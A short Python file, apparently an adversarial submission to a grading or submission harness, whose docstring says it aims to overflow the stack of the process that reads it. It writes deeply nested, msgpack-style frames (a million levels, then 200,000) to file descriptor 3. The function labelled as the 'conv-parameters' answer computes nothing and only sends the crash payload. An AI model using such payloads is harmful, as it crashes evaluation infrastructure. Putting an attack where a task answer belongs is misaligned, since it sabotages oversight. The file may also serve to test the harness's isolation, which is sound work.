"""Send a frame nested a million levels deep, to overflow the stack of its reader.

Against: no submission stops another.
"""
# stock: there is no such channel

# %% after conv-output-shape
import os
import struct


def send(payload):
    data = struct.pack(">I", len(payload)) + payload
    while data:
        try:
            data = data[os.write(3, data) :]
        except BlockingIOError:
            pass


send(b"\x91" * 1_000_000 + b"\xc0")

# %% answer conv-parameters
def conv_parameters(*args, **kwargs):
    start = b"\x83\xa4type\xa6answer\xa6number\x01\xa4body\x82\xa4type\xa5value\xa4node"
    send(start + b"\x93\xa1l\xa4list\x91" * 200_000 + b"\xc0")
